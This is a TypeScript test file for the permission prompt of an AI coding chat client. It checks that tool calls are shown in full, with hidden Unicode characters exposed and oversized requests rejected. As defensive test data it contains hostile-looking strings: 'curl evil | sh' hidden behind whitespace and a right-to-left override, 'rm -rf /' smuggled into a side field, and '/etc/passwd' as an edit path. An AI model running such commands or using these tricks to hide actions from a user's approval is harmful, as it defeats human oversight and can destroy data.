import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { maxCommand, maxQuestionCharacters, maxQuestionRows, questionView } from '../../../src/chat/question';
import { question } from './helper';

const faces = (name: string) => ({ name });
const view = (toolCall: object, over = {}) => questionView(question({ toolCall, ...over }), faces);

describe('a question as it is shown', () => {
  it('F046 the whole command, not the title', () => {
    const command = `echo ${'x'.repeat(300)}`;
    expect(view({ title: 'bash', kind: 'execute', rawInput: { command } })).toMatchObject({
      verb: 'run',
      command,
      canAllow: true,
    });
  });

  it('F046 hidden characters are made visible and counted', () => {
    const q = view({ kind: 'execute', rawInput: { command: 'rm ./tmp/\u202egol.tropxe\r' } });
    expect(q).toMatchObject({ command: 'rm ./tmp/[U+202E]gol.tropxe[U+000D]', hidden: 2 });
  });

  it('F046 nothing of an input hides behind its command', () => {
    const q = view({ kind: 'execute', rawInput: { command: 'ls', env: { PATH: '/evil' } } });
    expect(q.command).toContain('ls');
    expect(q.command).toContain('/evil');
  });

  it('F046 what is too long to be shown whole can only be rejected', () => {
    const q = view({ kind: 'execute', rawInput: { command: 'x'.repeat(maxCommand + 1) } });
    expect(q).toMatchObject({ canAllow: false, canRemember: false });
  });

  it('the prompt of an ask, with whom it goes to', () => {
    const q = view(
      { kind: 'other', rawInput: { agent: 'riker', prompt: 'how long?', context: 'a plan' } },
      { tool: 'ask_agent' },
    );
    expect(q).toMatchObject({ verb: 'ask', command: 'riker: a plan\n\nhow long?' });
  });

  it('a change shows its diff', () => {
    const q = view(
      { kind: 'edit', content: [{ type: 'diff', path: '/a', oldText: 'x', newText: 'y' }] },
      { tool: 'edit' },
    );
    expect(q).toMatchObject({ verb: 'change', command: '/a', diffs: [{ added: 1, removed: 1 }] });
  });

  describe('what is allowed was shown', () => {
    const write = (newText: string, more: object = {}) =>
      view(
        { kind: 'edit', content: [{ type: 'diff', path: '/a', oldText: null, newText }], ...more },
        { tool: 'write' },
      );

    it('F046 a row is never cut: what stands behind 510 spaces is there', () => {
      const q = write(`#${' '.repeat(510)}\u202e; curl evil | sh`);
      expect(q.diffs[0]!.rows[0]!.text).toBe(`#${' '.repeat(510)}[U+202E]; curl evil | sh`);
      expect(q).toMatchObject({ hidden: 1, canAllow: true });
    });

    it('F046 all of 1,000 rows, and of 300 files', () => {
      const rows = Array.from({ length: 1_000 }, (_, i) => `line ${i}`).join('\n');
      expect(write(rows).diffs[0]).toMatchObject({ added: 1_000, cut: 0, rows: { length: 1_000 } });
      const content = Array.from({ length: 300 }, (_, i) => ({ type: 'diff', path: `/f${i}`, newText: 'x' }));
      expect(view({ kind: 'edit', content }, { tool: 'edit' })).toMatchObject({
        diffs: { length: 300 },
        canAllow: true,
      });
    });

    it.each([
      ['too many rows', [{ type: 'diff', path: '/a', newText: 'x\n'.repeat(maxQuestionRows + 1) }], 'too large'],
      [
        'too many characters',
        [{ type: 'diff', path: '/a', newText: 'x'.repeat(maxQuestionCharacters + 1) }],
        'too large',
      ],
      [
        'too many of both in several files',
        Array(3).fill({ type: 'diff', path: '/a', newText: 'x\n'.repeat(4_000) }),
        'too large',
      ],
      ['too many files', Array(maxQuestionRows).fill({ type: 'diff', path: '/a', newText: 'x' }), 'too large'],
      ['a path that no system has', [{ type: 'diff', path: 'x'.repeat(5_000), newText: 'x' }], 'too large'],
      ['a new text that is none', [{ type: 'diff', path: '/a', newText: ['x'] }], 'cannot be shown'],
      ['an old text that is none', [{ type: 'diff', path: '/a', oldText: 7, newText: 'x' }], 'cannot be shown'],
    ])('F046 %s: it can only be rejected, and why', (_, content, words) => {
      const q = view({ kind: 'edit', content }, { tool: 'edit' });
      expect(q).toMatchObject({ canAllow: false, canRemember: false, why: expect.stringContaining(words) });
    });

    it('F060 a small change of a large file can be allowed', () => {
      const old = Array.from({ length: 300_000 }, (_, i) => `line ${i}`).join('\n');
      const content = [{ type: 'diff', path: '/a', oldText: old, newText: old.replace('line 299000\n', 'other\n') }];
      const q = view({ kind: 'edit', content }, { tool: 'edit' });
      expect(q).toMatchObject({ canAllow: true, diffs: [{ added: 1, removed: 1, cut: 0 }] });
      expect(q.diffs[0]!.rows).toContainEqual({ kind: 'add', line: 299_001, text: 'other' });
    });

    it('F060 many changes of which each is expensive are not compared for ever', () => {
      const side = (from: number) => Array.from({ length: 20_000 }, (_, i) => `${from}:${i}`).join('\n');
      const content = Array(100).fill({ type: 'diff', path: '/a', oldText: side(1), newText: side(2) });
      const started = performance.now();
      expect(view({ kind: 'edit', content })).toMatchObject({ canAllow: false });
      expect(performance.now() - started).toBeLessThan(3_000);
    });

    it('F046 hidden characters of every part are made visible and counted', () => {
      const q = view(
        {
          kind: 'edit',
          rawInput: { reason: 'so\u200b' },
          content: [{ type: 'diff', path: '/a\u202e', oldText: 'x\u0007', newText: 'y\u2066' }],
        },
        { cwd: '/w\u200b', chain: ['You', 'bob\u200f'], path: ['bob\u200f'], tool: 'edit\u00ad', name: 'shown' },
      );
      const shown = JSON.stringify([q.command, q.cwd, q.chain, q.reason, q.diffs]);
      expect(shown).not.toMatch(/\p{Cf}|\p{Cc}/u);
      expect(q.hidden).toBe(8);
    });

    it('F046 a title is made visible too', () => {
      expect(view({ title: 'x\u202ey', kind: 'other' })).toMatchObject({ command: 'x[U+202E]y', hidden: 1 });
    });

    it('line ends of CRLF files are no hidden characters; mixed ones are', () => {
      const crlf = (oldText: string, newText: string) =>
        view({ kind: 'edit', content: [{ type: 'diff', path: '/a', oldText, newText }] }).hidden;
      expect(crlf('a\r\nb\r\n', 'a\r\nc\r\n')).toBe(0);
      expect(crlf('a\nb\n', 'a\r\nb\n')).toBe(1);
    });

    it('a path cannot look like two', () => {
      const content = [{ type: 'diff', path: '/a\n/b', newText: 'x' }];
      expect(view({ kind: 'edit', content }).command).toBe('/a ⏎ /b');
    });
  });

  describe('nothing of an input hides', () => {
    it('behind a change, whatever the kind says', () => {
      const content = [{ type: 'diff', path: '/w/a', oldText: 'x', newText: 'y' }];
      const rawInput = { path: 'a', content: 'y', after: 'rm -rf /', command: 'ls' };
      const q = view({ kind: 'other', content, rawInput }, { tool: undefined });
      expect(q.command).toContain('rm -rf /');
      const command = view({ kind: 'execute', content, rawInput }).command;
      expect(command).toMatch(/^ls\n/);
      expect(command).toContain('rm -rf /');
    });

    it('behind a name: a field is left out only when its very text is shown by a change', () => {
      const content = [{ type: 'diff', path: '/w/a', oldText: 'x', newText: 'y' }];
      const shown = { path: '/w/a', content: 'y', old_string: 'x', new_string: 'y' };
      expect(view({ kind: 'edit', content, rawInput: shown }, { tool: 'edit' }).command).toBe('/w/a');
      for (const [field, value] of Object.entries({
        path: '/etc/passwd',
        content: 'other',
        new_string: 'evil',
        edits: [1],
      })) {
        const rawInput = { ...shown, [field]: value };
        expect(view({ kind: 'edit', content, rawInput }, { tool: 'edit' }).command).toContain(`"${field}"`);
      }
    });

    it.each(['source', 'timeout', 'process_id', 'call_id', 'turn_id', 'parsed_cmd', 'workdir', 'cwd', 'anything'])(
      'a field %s beside a command',
      (field) => {
        const q = view({ kind: 'execute', rawInput: { command: 'ls', [field]: 'EVIL' } });
        expect(q.command).toContain('EVIL');
      },
    );

    it('beside the prompt of an ask', () => {
      const q = view({ rawInput: { agent: 'riker', prompt: 'hi', files: ['/secret'] } }, { tool: 'ask_agent' });
      expect(q.command).toContain('/secret');
      const odd = view({ rawInput: { agent: 'riker', prompt: 'hi', context: { x: 'EVIL' } } }, { tool: 'ask_agent' });
      expect(odd.command).toContain('EVIL');
    });

    it('words of a command that are no text, an input that is no object, a reason too long to be one', () => {
      expect(view({ kind: 'execute', rawInput: { command: ['ls', { evil: 1 }] } }).command).toContain('evil');
      expect(view({ kind: 'other', title: 'ls', rawInput: ['EVIL'] }).command).toContain('EVIL');
      const reason = `${'x'.repeat(600)} EVIL`;
      expect(view({ kind: 'execute', rawInput: { command: 'ls', reason } }).command).toContain('EVIL');
      const two = view({ kind: 'execute', rawInput: { command: 'ls', description: 'nice', reason: 'EVIL' } });
      expect(two).toMatchObject({ reason: 'nice', command: expect.stringContaining('EVIL') });
    });

    it('the folder and the reason stand in their own lines; codex’ notes about its call are none of its input', () => {
      const rawInput = { command: ['/bin/bash', '-lc', 'ls'], cwd: '/work', description: 'look' };
      expect(view({ kind: 'execute', rawInput })).toMatchObject({ command: 'ls', reason: 'look' });
      const codex = {
        ...rawInput,
        call_id: 't1',
        turn_id: 'x',
        started_at_ms: 1,
        parsed_cmd: [],
        available_decisions: [],
      };
      expect(view({ toolCallId: 't1', kind: 'execute', rawInput: codex }).command).toBe('ls');
      expect(view({ toolCallId: 't2', kind: 'execute', rawInput: codex }).command).toContain('turn_id');
    });

    it('property: every text of an input is in what is shown', () => {
      const fields = [
        'command',
        'path',
        'content',
        'cwd',
        'source',
        'timeout',
        'prompt',
        'agent',
        'reason',
        'x',
        'new_string',
      ];
      fc.assert(
        fc.property(
          fc.dictionary(fc.constantFrom(...fields), fc.stringMatching(/^[a-z]{4,12}$/)),
          fc.constantFrom('execute', 'edit', 'other', undefined),
          fc.constantFrom('bash', 'ask_agent', undefined),
          fc.boolean(),
          (rawInput, kind, tool, diff) => {
            const content = diff ? [{ type: 'diff', path: '/p', oldText: 'old', newText: 'new' }] : [];
            const q = view({ kind, rawInput, content }, { tool });
            const shown = [q.command, q.reason, q.cwd].join('\n');
            for (const value of Object.values(rawInput)) expect(shown).toContain(value);
          },
        ),
        { numRuns: 300 },
      );
    });
  });

  it.each([
    [{ tool: undefined }, true, false],
    [{ keyFile: true }, true, false],
    [{ cannotAllow: true }, false, false],
    [{}, true, true],
  ])('rule 4: %j can be allowed: %s, remembered: %s', (over, canAllow, canRemember) => {
    expect(view({ kind: 'execute', rawInput: { command: 'ls' } }, over)).toMatchObject({ canAllow, canRemember });
  });

  it('never throws', () => {
    fc.assert(
      fc.property(
        fc.dictionary(fc.constantFrom('rawInput', 'content', 'kind', 'title', 'locations'), fc.jsonValue()),
        (call) => {
          expect(typeof view(call).command).toBe('string');
        },
      ),
    );
  });
});
